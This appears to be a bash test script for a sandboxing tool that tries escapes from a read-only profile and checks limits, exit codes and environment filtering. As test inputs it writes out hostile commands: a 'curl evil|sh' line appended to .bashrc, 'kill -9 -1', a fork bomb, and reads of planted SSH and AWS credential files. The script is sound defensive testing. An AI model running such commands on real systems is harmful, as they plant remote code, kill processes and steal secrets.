#!/usr/bin/env bash
# The process runner (`shunt run`): escape attempts from READ_ONLY, each
# checked against checksums of a canary workspace and HOME, then the
# writable profiles, limits, exit codes, environment and --dry-run.
. "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
setup_home

ESCAPE_BIN="$BUILD/tests/helpers/escape"
if ! "$SHUNT" run --profile READ_ONLY --workspace "$TEST_TMP" -- true 2>"$TEST_TMP/probe.err"; then
	if grep -q "user namespace\|unprivileged_userns\|namespaces" "$TEST_TMP/probe.err"; then
		skip "the kernel does not allow user namespaces here: $(head -c 300 "$TEST_TMP/probe.err")"
		done_testing
		exit
	fi
fi

WS="$TEST_TMP/ws"
mkdir -p "$WS/.git/hooks" "$WS/src" "$HOME/.ssh" "$HOME/.aws"
echo 'print("hello")' >"$WS/src/main.py"
echo '#!/bin/sh' >"$WS/.git/hooks/pre-commit"
echo '[core]' >"$WS/.git/config"
echo "SECRET-KEY-MATERIAL" >"$HOME/.ssh/id_rsa"
echo "aws_secret_access_key = SECRET-AWS" >"$HOME/.aws/credentials"
echo "alias ls=ls" >"$HOME/.bashrc"
echo "target" >"$HOME/target.txt"
ln -s "$HOME/target.txt" "$WS/link-home"
ln -s "/tmp/shunt-escape-via-link-$$" "$WS/link-tmp"
cp "$ESCAPE_BIN" "$WS/escape"
chmod -R a+rX "$TEST_TMP"

# Everything under the canary trees: names, types, modes and contents.
snapshot() {
	(cd "$TEST_TMP" && find ws home -path home/.local/state/shunt -prune -o -path home/.cache/shunt -prune \
		-o -printf '%y %m %p -> %l\n' | sort
	 cd "$TEST_TMP" && find ws home -type f -not -path 'home/.local/state/shunt/*' \
		-not -path 'home/.cache/shunt/*' -print0 | sort -z | xargs -0 sha256sum)
}
BEFORE=$(snapshot)
unchanged() { # DESC
	local now
	now=$(snapshot)
	if [ "$now" = "$BEFORE" ]; then pass "$1: host canaries unchanged"; else
		fail "$1: host canaries unchanged"
		diff <(echo "$BEFORE") <(echo "$now") | head -10 | sed 's/^/# /'
	fi
}
ro() { (cd "$WS" && "$SHUNT" run --profile READ_ONLY --workspace "$WS" -- "$@"); }

# --- READ_ONLY escape attempts ---
out=$(ro sh -c "echo pwned > '$WS/src/main.py'; echo new > '$WS/new.txt'; rm -f '$WS/src/main.py'; echo done" 2>&1)
like "$out" "Read-only file system|Permission denied" "READ_ONLY: workspace writes fail"
[ ! -e "$WS/new.txt" ] && pass "READ_ONLY: no new file in the workspace" || fail "READ_ONLY: no new file in the workspace"
unchanged "workspace write"

ro sh -c "touch '$HOME/planted'; echo 'curl evil|sh' >> '$HOME/.bashrc'; mkdir '$HOME/newdir'" >/dev/null 2>&1
[ ! -e "$HOME/planted" ] && pass "READ_ONLY: HOME not writable" || fail "READ_ONLY: HOME not writable"
unchanged "HOME write"

TMPNAME="/tmp/shunt-escape-tmp-$$"
out=$(ro sh -c "echo x > '$TMPNAME' && cat '$TMPNAME'" 2>&1)
is "$out" "x" "READ_ONLY: /tmp is writable inside (private)"
[ ! -e "$TMPNAME" ] && pass "READ_ONLY: host /tmp untouched" || { fail "READ_ONLY: host /tmp untouched"; rm -f "$TMPNAME"; }

ro sh -c "echo pwned > '$WS/link-home'; echo pwned > '$WS/link-tmp'" >/dev/null 2>&1
is "$(cat "$HOME/target.txt")" "target" "READ_ONLY: symlink to HOME not followed to a write"
[ ! -e "/tmp/shunt-escape-via-link-$$" ] && pass "READ_ONLY: symlink to host /tmp lands in the private /tmp" ||
	{ fail "READ_ONLY: symlink to host /tmp lands in the private /tmp"; rm -f "/tmp/shunt-escape-via-link-$$"; }
unchanged "symlink"

ro sh -c "echo x > /proc/self/root$WS/src/main.py; echo x > /proc/1/root$WS/src/main.py;
	touch /proc/1/root/tmp/shunt-escape-proc-$$ /proc/self/root$HOME/proc-planted; ls /proc/1/root/ >/dev/null" >/dev/null 2>&1
[ ! -e "/tmp/shunt-escape-proc-$$" ] && [ ! -e "$HOME/proc-planted" ] &&
	pass "READ_ONLY: /proc/self/root and /proc/1/root stay inside" || fail "READ_ONLY: /proc/self/root and /proc/1/root stay inside"
unchanged "/proc/*/root"

out=$(ro sh -c "mount -o remount,rw '$WS' && echo REMOUNTED; echo x > '$WS/src/main.py' && echo WROTE" 2>&1)
unlike "$out" "REMOUNTED|WROTE" "READ_ONLY: remount read-write refused"
out=$(ro sh -c "unshare -Ur sh -c 'mount -o remount,rw $WS && echo x > $WS/src/main.py && echo NESTED'" 2>&1)
unlike "$out" "NESTED" "READ_ONLY: nested unshare cannot make the workspace writable"
unchanged "remount/unshare"

sleep 300 &
HOSTPID=$!
out=$(ro ./escape ptrace "$HOSTPID" 2>&1)
rc=$?
is "$rc" "0" "READ_ONLY: ptrace of a host process blocked ($out)"
if command -v strace >/dev/null; then
	out=$(ro strace -p "$HOSTPID" 2>&1 </dev/null)
	unlike "$out" "restart_syscall|nanosleep|clock_nanosleep" "READ_ONLY: strace -p of a host process blocked"
fi
ro sh -c "kill -9 $HOSTPID; kill -9 -1" >/dev/null 2>&1
kill -0 "$HOSTPID" 2>/dev/null && pass "READ_ONLY: host process survives kill" || fail "READ_ONLY: host process survives kill"
kill "$HOSTPID" 2>/dev/null
wait "$HOSTPID" 2>/dev/null

SHMNAME="shunt-escape-shm-$$"
out=$(ro sh -c "echo x > /dev/shm/$SHMNAME && echo ok" 2>&1)
[ ! -e "/dev/shm/$SHMNAME" ] && pass "READ_ONLY: /dev/shm is private ($out)" || { fail "READ_ONLY: /dev/shm is private"; rm -f "/dev/shm/$SHMNAME"; }

# Host listeners: abstract unix socket and loopback TCP.
SOCK="shunt-escape-$$"
"$ESCAPE_BIN" listen-abstract "$SOCK" "$TEST_TMP/abstract.flag" &
L1=$!
"$ESCAPE_BIN" listen-tcp "$TEST_TMP/port" "$TEST_TMP/tcp.flag" &
L2=$!
for _ in $(seq 50); do
	[ -s "$TEST_TMP/port" ] && "$ESCAPE_BIN" connect-abstract "$SOCK" >/dev/null 2>&1 && break
	sleep 0.1
done
PORT=$(cat "$TEST_TMP/port" 2>/dev/null)
"$ESCAPE_BIN" connect-tcp "$PORT" >/dev/null 2>&1
sleep 0.2
n_abs=$(wc -l <"$TEST_TMP/abstract.flag" 2>/dev/null || echo 0)
n_tcp=$(wc -l <"$TEST_TMP/tcp.flag" 2>/dev/null || echo 0)
if [ "$n_abs" -ge 1 ] && [ "$n_tcp" -ge 1 ]; then
	pass "host listeners accept connections from the host"
	out=$(ro ./escape connect-abstract "$SOCK" 2>&1)
	is "$?" "0" "READ_ONLY: abstract unix socket on the host unreachable ($out)"
	out=$(ro ./escape connect-tcp "$PORT" 2>&1)
	is "$?" "0" "READ_ONLY: loopback TCP on the host unreachable ($out)"
	sleep 0.2
	is "$(wc -l <"$TEST_TMP/abstract.flag")" "$n_abs" "READ_ONLY: no abstract-socket connection arrived"
	is "$(wc -l <"$TEST_TMP/tcp.flag")" "$n_tcp" "READ_ONLY: no TCP connection arrived"
else
	fail "host listeners accept connections from the host (abstract=$n_abs tcp=$n_tcp)"
fi
kill "$L1" "$L2" 2>/dev/null
wait "$L1" "$L2" 2>/dev/null

out=$(ro sh -c "cat '$HOME/.ssh/id_rsa'; cat '$HOME/.aws/credentials'" 2>&1)
unlike "$out" "SECRET-KEY-MATERIAL|SECRET-AWS" "READ_ONLY: ~/.ssh/id_rsa and ~/.aws/credentials unreadable"
out=$(ro ls -A "$HOME/.ssh" 2>&1)
is "$out" "" "READ_ONLY: ~/.ssh shows up empty"
out=$(ro cat "$HOME/target.txt" 2>&1)
is "$out" "target" "READ_ONLY: the rest of HOME is readable"

if command -v script >/dev/null; then
	out=$(cd "$WS" && SHELL=/bin/sh script -qec "'$SHUNT' run --profile READ_ONLY --workspace '$WS' -- ./escape tiocsti" /dev/null 2>&1 </dev/null)
	rc=$?
	like "$out" "blocked" "READ_ONLY: TIOCSTI on the terminal is refused ($(echo "$out" | tr -d '\r' | head -1))"
	unlike "$out" "ESCAPED" "READ_ONLY: no keystroke injected"
else
	skip "script(1) not installed: cannot attach a pty for the TIOCSTI test"
fi
unchanged "after all READ_ONLY attempts"

# --- WORKSPACE_WRITE ---
(cd "$WS" && "$SHUNT" run --profile WORKSPACE_WRITE --workspace "$WS" -- sh -c "
	echo built > '$WS/out.txt'; touch '$HOME/ww-planted'; echo evil >> '$WS/.git/hooks/pre-commit';
	echo evil >> '$WS/.git/config'; echo evil >> '$HOME/.bashrc'; touch /tmp/shunt-ww-$$") >/dev/null 2>&1
is "$(cat "$WS/out.txt" 2>/dev/null)" "built" "WORKSPACE_WRITE: writes reach the workspace"
[ ! -e "$HOME/ww-planted" ] && [ ! -e "/tmp/shunt-ww-$$" ] && pass "WORKSPACE_WRITE: nothing outside the workspace" ||
	fail "WORKSPACE_WRITE: nothing outside the workspace"
is "$(cat "$WS/.git/hooks/pre-commit")" "#!/bin/sh" "WORKSPACE_WRITE: .git/hooks stays read-only"
is "$(cat "$WS/.git/config")" "[core]" "WORKSPACE_WRITE: .git/config stays read-only"
is "$(cat "$HOME/.bashrc")" "alias ls=ls" "WORKSPACE_WRITE: ~/.bashrc stays read-only"
rm -f "$WS/out.txt"

# --- package caches (enable_cache is on by default): rw in WORKSPACE_WRITE, never in READ_ONLY ---
out=$(cd "$WS" && "$SHUNT" run --dry-run --json --workspace "$WS" -- true 2>&1)
if printf '%s' "$out" | python3 -c 'import json,sys; sys.exit(0 if any(m["cache"] for m in json.load(sys.stdin)["mounts"]) else 1)' 2>/dev/null; then
	(cd "$WS" && "$SHUNT" run --workspace "$WS" -- sh -c "echo cached > '$HOME/.npm/shunt-cache-test'") >/dev/null 2>&1
	is "$(cat "$HOME/.npm/shunt-cache-test" 2>/dev/null)" "cached" "cache: WORKSPACE_WRITE writes ~/.npm"
	(cd "$WS" && "$SHUNT" run --profile READ_ONLY --workspace "$WS" -- sh -c "echo ro > '$HOME/.npm/shunt-cache-test'") >/dev/null 2>&1
	is "$(cat "$HOME/.npm/shunt-cache-test" 2>/dev/null)" "cached" "cache: READ_ONLY cannot write ~/.npm"
	rm -f "$HOME/.npm/shunt-cache-test"
else
	skip "enable_cache is off in this configuration"
fi

# --- SYSTEM_WRITE overlay ---
out=$(cd "$WS" && "$SHUNT" run --profile SYSTEM_WRITE --workspace "$WS" -- touch /usr/shunt-test-$$ 2>&1)
rc=$?
is "$rc" "125" "SYSTEM_WRITE without --i-accept-weaker-isolation: exit 125"
like "$out" "microVM.*i-accept-weaker-isolation" "SYSTEM_WRITE refusal says why"
out=$(cd "$WS" && "$SHUNT" run --profile SYSTEM_WRITE --i-accept-weaker-isolation --workspace "$WS" -- \
	sh -c "touch /usr/shunt-test-$$ && echo etc >> /etc/shunt-test-$$ && ls /usr/shunt-test-$$" 2>&1)
rc=$?
is "$rc" "0" "SYSTEM_WRITE overlay: writes to /usr and /etc succeed inside ($out)"
[ ! -e "/usr/shunt-test-$$" ] && [ ! -e "/etc/shunt-test-$$" ] && pass "SYSTEM_WRITE overlay: host /usr and /etc unchanged" ||
	{ fail "SYSTEM_WRITE overlay: host /usr and /etc unchanged"; rm -f "/usr/shunt-test-$$" "/etc/shunt-test-$$"; }
mkdir -p "$TEST_TMP/keep"
(cd "$WS" && "$SHUNT" run --profile SYSTEM_WRITE --i-accept-weaker-isolation --keep-changes "$TEST_TMP/keep" \
	--workspace "$WS" -- sh -c "echo kept > /etc/shunt-kept-$$") >/dev/null 2>&1
is "$(cat "$TEST_TMP/keep/upper/etc/shunt-kept-$$" 2>/dev/null)" "kept" "--keep-changes keeps the upper layer"
[ ! -e "/etc/shunt-kept-$$" ] && pass "--keep-changes: host /etc unchanged" || { fail "--keep-changes: host /etc unchanged"; rm -f "/etc/shunt-kept-$$"; }

# --- limits ---
if command -v python3 >/dev/null; then
	out=$(cd "$WS" && "$SHUNT" run --mem 256M --timeout 60 --workspace "$WS" -- \
		python3 -c 'b = bytearray(b"x" * (2 * 1024 ** 3)); print("ALLOCATED", len(b))' 2>&1)
	rc=$?
	# MemoryError (rlimit) or the OOM killer (cgroup: 137); 124 would be our timeout
	[ "$rc" -ne 0 ] && [ "$rc" -ne 124 ] && pass "memory: a 2 GB allocation under --mem 256M fails (exit $rc)" ||
		fail "memory: a 2 GB allocation under --mem 256M fails (exit $rc)"
	unlike "$out" "ALLOCATED" "memory: the allocation never completed"
else
	skip "python3 not installed: no memory test"
fi
out=$(cd "$WS" && timeout -s KILL 120 "$SHUNT" run --pids 64 --timeout 20 --workspace "$WS" -- \
	sh -c 'f() { f | f & }; f; sleep 2; echo bombed' 2>&1)
rc=$?
[ "$rc" -ne 137 ] && pass "pids: a fork bomb under --pids 64 is contained and shunt returns (exit $rc)" ||
	fail "pids: a fork bomb under --pids 64 is contained and shunt returns (exit $rc)"
is "$(sh -c 'echo responsive')" "responsive" "pids: the host still forks"

out=$(cd "$WS" && timeout -s KILL 60 "$SHUNT" run --timeout 1 --workspace "$WS" -- sleep 30 2>&1)
rc=$?
is "$rc" "124" "timeout: exit 124"
like "$out" "timed out after 1 s" "timeout: says so"

# --- exit codes, signals, environment ---
(cd "$WS" && "$SHUNT" run --workspace "$WS" -- sh -c 'exit 42')
is "$?" "42" "exit code passes through"
(cd "$WS" && "$SHUNT" run --workspace "$WS" -- sh -c 'kill -TERM $$')
is "$?" "143" "killed by SIGTERM: 143"
out=$(cd "$WS" && "$SHUNT" run --workspace "$WS" -- sh -c 'echo out; echo err >&2' 2>/dev/null)
is "$out" "out" "stdout and stderr stay separate"
out=$(cd "$WS" && "$SHUNT" run --workspace "$WS" -- /nonexistent/cmd 2>&1)
is "$?" "127" "a missing command: 127"
out=$(cd "$WS" && SHUNT_TEST_SECRET=topsecret AWS_SECRET_ACCESS_KEY=awssecret "$SHUNT" run --workspace "$WS" -- env 2>&1)
unlike "$out" "topsecret|awssecret" "environment: secrets are dropped"
like "$out" "SHUNT_SANDBOX=process" "environment: SHUNT_SANDBOX is set"
like "$out" "SHUNT_PROFILE=WORKSPACE_WRITE" "environment: SHUNT_PROFILE is set"
out=$(cd "$WS" && SHUNT_TEST_SECRET=topsecret "$SHUNT" run --env SHUNT_TEST_SECRET --workspace "$WS" -- env 2>&1)
like "$out" "SHUNT_TEST_SECRET=topsecret" "environment: --env NAME passes it through"
out=$(cd "$WS" && "$SHUNT" run --workspace "$WS" -- sh -c 'hostname; cat /proc/self/status' 2>&1)
like "$out" "shunt-sandbox" "UTS namespace: hostname shunt-sandbox"
like "$out" "CapEff:[[:space:]]+0000000000000000" "the command has no capabilities"

# --- --dry-run ---
out=$(cd "$WS" && "$SHUNT" run --dry-run --profile READ_ONLY --workspace "$WS" -- touch "$WS/dry" 2>&1)
rc=$?
is "$rc" "0" "--dry-run exits 0"
[ ! -e "$WS/dry" ] && pass "--dry-run runs nothing" || fail "--dry-run runs nothing"
like "$out" "profile: +READ_ONLY" "--dry-run shows the profile"
like "$out" "network: +none" "--dry-run shows the network"
like "$out" "$HOME/.ssh" "--dry-run lists hidden paths"
out=$(cd "$WS" && "$SHUNT" run --dry-run --json --workspace "$WS" -- touch "$WS/dry" 2>&1)
got=$(printf '%s' "$out" | python3 -c 'import json,sys; d=json.load(sys.stdin); print(d["runner"], d["profile"], d["workspace_mode"])' 2>&1)
is "$got" "process WORKSPACE_WRITE rw" "--dry-run --json parses and names runner/profile"
[ ! -e "$WS/dry" ] && pass "--dry-run --json runs nothing" || fail "--dry-run --json runs nothing"
out=$(cd "$WS" && "$SHUNT" run --network allowlist --allow-host example.com --workspace "$WS" -- true 2>&1)
rc=$?
is "$rc" "0" "network allowlist runs behind the filtering proxy (enforcement: network.sh)"

# the cache directories shunt created on the host are the one intended
# change outside the workspace; drop them (empty) before the final check
for d in .npm .cache/pip .cache/yarn .cargo/registry .gem .local/share/pnpm go/pkg/mod; do
	[ -d "$HOME/$d" ] && (cd "$HOME" && rmdir -p --ignore-fail-on-non-empty "$d")
done
unchanged "end of test"
done_testing
